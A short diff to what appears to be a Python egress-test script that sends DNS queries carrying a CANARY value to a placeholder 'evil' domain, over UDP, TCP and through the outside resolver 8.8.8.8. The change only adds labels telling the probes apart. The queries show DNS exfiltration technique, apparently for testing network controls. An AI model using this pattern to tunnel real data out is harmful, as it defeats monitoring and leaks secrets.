@@ -5,7 +5,7 @@ from tries import *
 
 def of_type(label, kind):
     def through():
-        return ask(question(EVIL_NAME, kind))
+        return ask(question(f"{label}.{EVIL_NAME}", kind))
     through.__name__ = "type_" + label
     return through
 
@@ -22,17 +22,17 @@ def data_in_labels():
 
 @attempt
 def over_tcp():
-    return ask_tcp(question(EVIL_NAME))
+    return ask_tcp(question("tcp." + EVIL_NAME))
 
 
 @attempt
 def another_server():
-    return ask(question(f"{CANARY}.{EVIL_NAME}"), "8.8.8.8")
+    return ask(question(f"{CANARY}.other.{EVIL_NAME}"), "8.8.8.8")
 
 
 @attempt
 def another_server_over_tcp():
-    return ask_tcp(question(f"{CANARY}.{EVIL_NAME}"), "8.8.8.8")
+    return ask_tcp(question(f"{CANARY}.tcp.{EVIL_NAME}"), "8.8.8.8")
 
 
 @attempt
